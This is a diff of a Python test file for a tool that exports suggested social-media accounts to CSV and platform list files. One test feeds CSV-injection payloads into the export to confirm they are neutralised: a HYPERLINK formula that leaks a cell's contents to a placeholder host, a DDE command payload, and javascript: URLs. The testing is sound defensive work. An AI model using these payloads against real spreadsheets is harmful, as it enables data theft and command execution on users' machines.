@@ -1,68 +1,27 @@
-"""Each export parses in its target format."""
+"""Each export parses in its target format (staffpulse.connect.export): the CSV, the X list,
+Mastodon's list and follows files, and which formats fit a list of suggestions."""
 
 from __future__ import annotations
 
 import csv
 import io
-import json
 import re
 from dataclasses import replace
-from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
-from atproto import models
-from atproto_client.exceptions import ModelError as AtprotoModelError
-from atproto_client.models import string_formats
-from atproto_client.models.utils import get_or_create
 
+from connect_fixtures import SUGGESTIONS, make_suggestion
 from staffpulse.connect.export import (
     CSV_COLUMNS,
     FORMATS,
-    ExportResult,
     check_exportable,
     export_suggestions,
     mastodon_address,
-    tid,
     write_export,
 )
-from staffpulse.connect.export_bluesky import LIST_IS_FOR_SCRIPTS
-from staffpulse.connect.suggest import Suggestion
 from staffpulse.errors import InputError
 from staffpulse.report.links import safe_link
-
-WHEN = datetime(2026, 3, 1, 12, 0, 0, 123456, tzinfo=UTC)
-
-
-def _s(
-    rank: int, handle: str, account_id: str, url: str | None = None, platform: str = "x"
-) -> Suggestion:
-    return Suggestion(
-        rank=rank,
-        platform=platform,
-        account_id=account_id,
-        handle=handle,
-        display_name=f"Name, {handle}",  # a comma, to exercise quoting
-        url=url,
-        role="recruiter",
-        score=100.0 / rank,
-        pagerank=0.1,
-        voice=80,
-        conversation=None,
-        via=("@a",),
-        explanation='recruiter · 2 people you talk with replied to them · "voice" 80',
-    )
-
-
-# One store never mixes platforms in one list of suggestions, but an export must not trust
-# that: each platform format keeps only its own platform's accounts.
-SUGGESTIONS = [
-    _s(1, "rita_recruits", "123", url="https://x.com/rita_recruits"),
-    _s(2, "hannah.bsky.social", "did:plc:ewvi7nxzyoun6zhxrhs64oiz", platform="bluesky"),
-    _s(3, "val@hr.social", "109", platform="mastodon"),
-    _s(4, "mona", "110", url="https://mastodon.social/@mona", platform="mastodon"),
-    _s(5, "ben.example.com", "ben.example.com", platform="bluesky"),  # no DID known
-]
 
 
 def test_csv_round_trips() -> None:
@@ -89,7 +48,9 @@ def test_csv_leaves_the_shares_empty_when_too_few_posts_to_judge() -> None:
 def test_csv_role_reads_as_people_write_it_and_keeps_the_id_for_scripts() -> None:
     """A spreadsheet user saw ``hr_pro`` where the terminal and the web say "HR pro"."""
     roles = ["hr_pro", "staffing_firm", "job_board", None]
-    picks = [replace(_s(i, f"a{i}", str(i)), role=r) for i, r in enumerate(roles, start=1)]
+    picks = [
+        replace(make_suggestion(i, f"a{i}", str(i)), role=r) for i, r in enumerate(roles, start=1)
+    ]
     rows = list(csv.DictReader(io.StringIO(export_suggestions(picks, "csv").text)))
     assert [(r["role"], r["role_id"]) for r in rows] == [
         ("HR pro", "hr_pro"),
@@ -100,21 +61,26 @@ def test_csv_role_reads_as_people_write_it_and_keeps_the_id_for_scripts() -> Non
 
 
 def test_csv_keeps_a_far_weaker_score_above_zero() -> None:
-    weak = [replace(_s(1, "top", "1"), score=100.0), replace(_s(2, "weak", "2"), score=0.00047)]
+    weak = [
+        replace(make_suggestion(1, "top", "1"), score=100.0),
+        replace(make_suggestion(2, "weak", "2"), score=0.00047),
+    ]
     rows = list(csv.DictReader(io.StringIO(export_suggestions(weak, "csv").text)))
     assert [r["score"] for r in rows] == ["100", "0.00047"]
 
 
 def test_csv_cells_cannot_run_as_spreadsheet_formulas() -> None:
     hostile = replace(
-        _s(1, "evil_staff", "1", url="javascript:alert(2)"),
+        make_suggestion(1, "evil_staff", "1", url="javascript:alert(2)"),
         display_name='=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
         role="+cmd|'/C calc'!A0",
         explanation="-2+3 @SUM(A1) and more",
     )
-    tabbed = replace(_s(2, "tab", "2", url="data:text/html,x"), display_name="\t=1+1")
-    carriage = replace(_s(3, "cr", "3", url=" HTTPS://x.com/cr "), display_name="\r=1+1")
-    plain = replace(_s(4, "plain", "4"), display_name="José · Staffing × HR (A+)")
+    tabbed = replace(make_suggestion(2, "tab", "2", url="data:text/html,x"), display_name="\t=1+1")
+    carriage = replace(
+        make_suggestion(3, "cr", "3", url=" HTTPS://x.com/cr "), display_name="\r=1+1"
+    )
+    plain = replace(make_suggestion(4, "plain", "4"), display_name="José · Staffing × HR (A+)")
     rows = list(
         csv.DictReader(
             io.StringIO(
@@ -141,12 +107,14 @@ def test_csv_cells_cannot_run_as_spreadsheet_formulas() -> None:
 
 
 def test_csv_url_is_filled_only_for_valid_x_handles_or_ids() -> None:
-    too_long = _s(1, "recruiting_desk_northwest", "6")
-    unseen = replace(_s(2, "1005985585335545856", "1005985585335545856"), handle_known=False)
-    mastodon = _s(3, "val@hr.social", "109", platform="mastodon", url="javascript:x")
+    too_long = make_suggestion(1, "recruiting_desk_northwest", "6")
+    unseen = replace(
+        make_suggestion(2, "1005985585335545856", "1005985585335545856"), handle_known=False
+    )
+    mastodon = make_suggestion(3, "val@hr.social", "109", platform="mastodon", url="javascript:x")
     did = "did:plc:ewvi7nxzyoun6zhxrhs64oiz"
-    bluesky = replace(_s(4, did, did, platform="bluesky"), handle_known=False)
-    odd = replace(_s(5, "x1", "not-an-id"), handle_known=False)
+    bluesky = replace(make_suggestion(4, did, did, platform="bluesky"), handle_known=False)
+    odd = replace(make_suggestion(5, "x1", "not-an-id"), handle_known=False)
     suggestions = [too_long, unseen, mastodon, bluesky, odd]
     rows = list(csv.DictReader(io.StringIO(export_suggestions(suggestions, "csv").text)))
     assert [r["url"] for r in rows] == [
@@ -162,9 +130,11 @@ def test_csv_account_known_only_by_id_has_no_handle_and_a_text_id() -> None:
     """A 19-digit id read as a number by a spreadsheet shows as 1.00599E+18 and loses its last
     digits; unknown handles and roles stay empty instead of repeating the id or guessing."""
     unseen = replace(
-        _s(1, "1005985585335545856", "1005985585335545856"), handle_known=False, role=None
+        make_suggestion(1, "1005985585335545856", "1005985585335545856"),
+        handle_known=False,
+        role=None,
     )
-    digits_handle = _s(2, "2024", "77")  # X allows an all-digit handle
+    digits_handle = make_suggestion(2, "2024", "77")  # X allows an all-digit handle
     rows = list(
         csv.DictReader(io.StringIO(export_suggestions([unseen, digits_handle], "csv").text))
     )
@@ -180,7 +150,7 @@ def test_csv_account_known_only_by_id_has_no_handle_and_a_text_id() -> None:
 
 
 def test_csv_file_has_a_byte_order_mark_for_excel(tmp_path: Path) -> None:
-    named = replace(_s(1, "jose", "1"), display_name="José · Staffing × HR")
+    named = replace(make_suggestion(1, "jose", "1"), display_name="José · Staffing × HR")
     result = export_suggestions([named], "csv")
     out = tmp_path / "who.csv"
     write_export(result, out)
@@ -190,44 +160,6 @@ def test_csv_file_has_a_byte_order_mark_for_excel(tmp_path: Path) -> None:
     # the platform files stay plain UTF-8: their importers expect no BOM
     mastodon = export_suggestions(SUGGESTIONS, "mastodon-follows")
     assert not mastodon.data().startswith(b"\xef\xbb\xbf")
-
-
-def test_bluesky_list_records_validate_against_the_lexicon() -> None:
-    owner = "did:plc:z72i7hdynmk6r22z27h6tvur"
-    result = export_suggestions(SUGGESTIONS, "bluesky-list", owner=owner, now=WHEN)
-    doc = json.loads(result.text)
-    listed = get_or_create(
-        doc["list"]["record"], models.AppBskyGraphList.Record, strict_string_format=True
-    )
-    assert listed is not None and listed.purpose == "app.bsky.graph.defs#curatelist"
-    assert re.fullmatch(string_formats.TID_RE, doc["list"]["rkey"])
-    assert doc["list"]["uri"] == f"at://{owner}/app.bsky.graph.list/{doc['list']['rkey']}"
-    assert len(doc["items"]) == 1 and result.written == 1
-    item = doc["items"][0]
-    record = get_or_create(
-        item["record"], models.AppBskyGraphListitem.Record, strict_string_format=True
-    )
-    assert record is not None and record.subject == "did:plc:ewvi7nxzyoun6zhxrhs64oiz"
-    assert record.list == doc["list"]["uri"]
-    assert re.fullmatch(string_formats.TID_RE, item["rkey"])
-    bad = dict(item["record"], subject="not-a-did")
-    with pytest.raises(AtprotoModelError):
-        get_or_create(bad, models.AppBskyGraphListitem.Record, strict_string_format=True)
-    # only Bluesky handles: an X or Mastodon handle means nothing on Bluesky
-    assert doc["handles"] == ["hannah.bsky.social", "ben.example.com"]
-    assert doc["unresolved"] == ["ben.example.com"]
-    assert result.skipped == [
-        "@rita_recruits: an X account, not a Bluesky one",
-        "@val@hr.social: a Mastodon account, not a Bluesky one",
-        "@mona: a Mastodon account, not a Bluesky one",
-        "@ben.example.com: no DID known (resolve the handle, then re-export)",
-    ]
-
-
-def test_tid_is_sortable_and_well_formed() -> None:
-    first, later = tid(WHEN), tid(datetime(2027, 1, 1, tzinfo=UTC))
-    assert len(first) == 13 and first < later
-    assert re.fullmatch(string_formats.TID_RE, first)
 
 
 def _mastodon_rows(text: str, headers: list[str]) -> list[dict[str, str]]:
@@ -275,7 +207,9 @@ def test_addresses_and_errors(tmp_path: pytest.TempPathFactory) -> None:
 
 
 def test_an_account_known_only_by_its_id_is_skipped_with_a_reason() -> None:
-    unseen = replace(_s(5, "1005985585335545856", "1005985585335545856"), handle_known=False)
+    unseen = replace(
+        make_suggestion(5, "1005985585335545856", "1005985585335545856"), handle_known=False
+    )
     assert not unseen.handle_known and unseen.label == "account id 1005985585335545856"
     result = export_suggestions([SUGGESTIONS[0], unseen], "x-list")
     assert result.text == "@rita_recruits\n"
@@ -287,7 +221,7 @@ def test_an_account_known_only_by_its_id_is_skipped_with_a_reason() -> None:
 
 
 def test_x_list_takes_only_x_accounts_with_valid_x_handles() -> None:
-    too_long = _s(6, "recruiting_desk_northwest", "6")  # 25 characters: X allows 15
+    too_long = make_suggestion(6, "recruiting_desk_northwest", "6")  # 25 characters: X allows 15
     result = export_suggestions([*SUGGESTIONS, too_long], "x-list")
     assert result.text == "@rita_recruits\n" and result.written == 1
     for line in result.text.splitlines():
@@ -341,88 +275,24 @@ def test_check_exportable_names_the_formats_that_fit() -> None:
     assert "csv" in (caught.value.hint or "")
 
 
-def test_summary_for_json() -> None:
-    result = ExportResult("x-list", "@a\n", 1, ["@b: why"])
-    assert result.summary() == {
-        "format": "x-list",
-        "path": None,
-        "written": 1,
-        "skipped": ["@b: why"],
-        "notes": [],
-    }
-    assert result.summary(Path("out.txt"))["path"] == "out.txt"
-
-
-def test_a_bluesky_list_name_cut_to_the_lexicon_limit_is_noted() -> None:
-    long_name = "Staffing & recruiting voices worth following for our Q3 campaign across the US"
-    result = export_suggestions(SUGGESTIONS, "bluesky-list", list_name=long_name, now=WHEN)
-    name = json.loads(result.text)["list"]["record"]["name"]
-    assert name == long_name[:64] and len(name) < len(long_name)
-    assert result.notes == [
-        f"list name cut to 64 characters, Bluesky's limit: '{name}'",
-        LIST_IS_FOR_SCRIPTS,
-    ]
-    assert result.summary()["notes"] == result.notes  # --json says it too
-    short = export_suggestions(SUGGESTIONS, "bluesky-list", list_name="HR voices", now=WHEN)
-    assert short.notes == [LIST_IS_FOR_SCRIPTS]
-    assert json.loads(short.text)["list"]["record"]["name"] == "HR voices"
-
-
-def test_skip_reasons_count_each_reason_once_in_the_order_met() -> None:
-    result = export_suggestions(SUGGESTIONS, "bluesky-list", now=WHEN)
-    assert result.skip_reasons() == {
-        "an X account, not a Bluesky one": 1,
-        "a Mastodon account, not a Bluesky one": 2,
-        "no DID known (resolve the handle, then re-export)": 1,
-    }
-
-
 @pytest.mark.parametrize(
     "url",
     ["https://x.com/rita", "  HTTP://x.com/rita  ", "javascript:alert(1)", "data:text/html,x", ""],
 )
 def test_the_csv_links_exactly_what_the_html_reports_link(url: str) -> None:
     # one rule for every page and file: a stored address is kept only when it is http(s)
-    suggestion = _s(1, "recruiting_desk_northwest", "6", url=url)  # no X address to fall back on
+    suggestion = make_suggestion(
+        1, "recruiting_desk_northwest", "6", url=url
+    )  # no X address to fall back on
     (row,) = csv.DictReader(io.StringIO(export_suggestions([suggestion], "csv").text))
     assert row["url"] == (safe_link(url) or "")
-
-
-def test_bluesky_handles_is_a_spreadsheet_of_profiles_to_follow_by_hand() -> None:
-    by_did_only = replace(
-        _s(6, "did:plc:abc123", "did:plc:abc123", platform="bluesky"), handle_known=False
-    )
-    nameless = replace(_s(7, "x9", "x9", platform="bluesky"), handle_known=False)
-    sneaky = replace(
-        _s(8, "eve.bsky.social", "did:plc:eve", platform="bluesky"), display_name="=HYPERLINK(1)"
-    )
-    result = export_suggestions([*SUGGESTIONS, by_did_only, nameless, sneaky], "bluesky-handles")
-    assert result.encoding == "utf-8-sig" and result.data().startswith(b"\xef\xbb\xbf")
-    rows = list(csv.DictReader(io.StringIO(result.text)))
-    assert tuple(rows[0]) == ("handle", "display_name", "profile_link", "role", "why")
-    assert [r["profile_link"] for r in rows] == [
-        "https://bsky.app/profile/hannah.bsky.social",
-        "https://bsky.app/profile/ben.example.com",  # a handle is enough: no DID needed
-        "https://bsky.app/profile/did:plc:abc123",  # only the DID known: bsky.app opens it
-        "https://bsky.app/profile/eve.bsky.social",
-    ]
-    assert rows[0]["handle"] == "hannah.bsky.social" and rows[2]["handle"] == ""
-    assert rows[0]["display_name"] == "Name, hannah.bsky.social"
-    assert rows[0]["role"] == "recruiter" and rows[0]["why"] == SUGGESTIONS[1].explanation
-    assert rows[3]["display_name"] == "'=HYPERLINK(1)"  # a spreadsheet would run it
-    assert result.written == 4 and result.notes == []
-    assert result.skip_reasons() == {
-        "an X account, not a Bluesky one": 1,
-        "a Mastodon account, not a Bluesky one": 2,
-        "no handle stored, only the account id (fetch the account, then export again)": 1,
-    }
 
 
 def test_json_and_csv_give_the_same_link_for_every_account() -> None:
     # a tester saw "url": null in --json where the CSV had https://x.com/priya_hrlife
     suggestions = [
-        _s(1, "priya_hrlife", "42"),  # X, no stored URL
-        _s(
+        make_suggestion(1, "priya_hrlife", "42"),  # X, no stored URL
+        make_suggestion(
             2,
             "1005985585335545856",
             "1005985585335545856",
